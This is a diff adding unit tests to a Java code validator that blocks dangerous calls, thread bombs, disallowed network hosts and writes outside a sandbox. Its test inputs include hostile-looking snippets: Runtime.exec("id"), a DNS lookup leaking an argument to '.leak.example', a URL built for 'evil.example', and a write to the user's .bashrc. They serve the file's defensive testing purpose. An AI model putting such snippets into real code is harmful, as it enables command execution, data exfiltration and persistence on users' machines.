@@ -309,6 +309,59 @@ class JavaValidatorRulesTest {
     }
 
     @Test
+    void aTypeOrVariableDeclaredInAnotherScopeDoesNotHideJavaLangNames() {
+        String source = "class Main {\n    static class Other { static class Runtime {} int System; }\n"
+                + "    void run() throws Exception {\n        Runtime.getRuntime().exec(\"id\");\n"
+                + "        System.exit(1);\n    }\n}\n";
+        assertThat(check(STANDARD, source, NetworkPolicy.none()).errors())
+                .extracting(Finding::rule, Finding::line, Finding::column)
+                .containsExactly(tuple("denied-call", 4, 17), tuple("denied-call", 4, 30), tuple("denied-call", 5, 16));
+    }
+
+    @Test
+    void ownTypesNamedLikeJdkTypesAreNotTheJdkTypes() {
+        String source = "class Main {\n    static class Runtime { static Runtime getRuntime() { return null; }"
+                + " void exec(String s) {} }\n    void run() {\n        Runtime.getRuntime().exec(\"job\");\n    }\n}\n";
+        assertThat(check(STANDARD, source, NetworkPolicy.none()).findings()).isEmpty();
+    }
+
+    @Test
+    void aThreadStartedByAMethodThatCallsItselfIsUnbounded() {
+        String source = "class Main {\n    static void spawn() {\n        new Thread(Main::spawn).start();\n    }\n}\n";
+        assertThat(check(STANDARD, source, NetworkPolicy.none()).errors())
+                .extracting(Finding::rule, Finding::line, Finding::column)
+                .containsExactly(tuple("too-many-threads", 3, 9));
+    }
+
+    @Test
+    void hostsWithAnUnknownPartAreJudgedByTheirKnownSuffix() {
+        NetworkPolicy stripe = NetworkPolicy.allow("api.stripe.com");
+        String source = main("java.net.InetAddress.getByName(args[0] + \".leak.example\");\n"
+                + "        java.net.URI.create(\"https://\" + args[0] + \".stripe.com/v1\");\n"
+                + "        java.net.URI.create(\"https://api.stripe.com\" + args[0]);");
+        ValidationResult r = check(STANDARD, source, stripe);
+        assertThat(r.errors()).extracting(Finding::rule, Finding::line, Finding::column)
+                .containsExactly(tuple("host-not-allowed", 3, 40));
+        assertThat(r.errors().get(0).message()).contains("*.leak.example");
+    }
+
+    @Test
+    void formattedUrlsAreFoldedBeforeTheHostCheck() {
+        String source = main("String u = String.format(\"https://%s/x\", \"evil.example\");");
+        assertThat(check(STANDARD, source, NetworkPolicy.allow("api.stripe.com")).errors())
+                .extracting(Finding::rule, Finding::line, Finding::column)
+                .containsExactly(tuple("host-not-allowed", 3, 20));
+    }
+
+    @Test
+    void homeAndTempDirectoriesAreOutsideEvenInsideConcatenations() {
+        assertThat(errorRules(check(main("new java.io.FileWriter(System.getProperty(\"user.home\") + \"/.bashrc\");"))))
+                .containsExactly("file-write-outside");
+        assertThat(errorRules(check(main("java.nio.file.Files.createFile(java.nio.file.Path.of("
+                + "System.getenv(\"TMPDIR\"), \"x\"));")))).containsExactly("file-write-outside");
+    }
+
+    @Test
     void concurrentValidationsGiveTheSameFindings() throws Exception {
         String source = main("var r = Runtime.getRuntime();\n        r.exec(\"id\");");
         List<Finding> expected = check(source).findings();
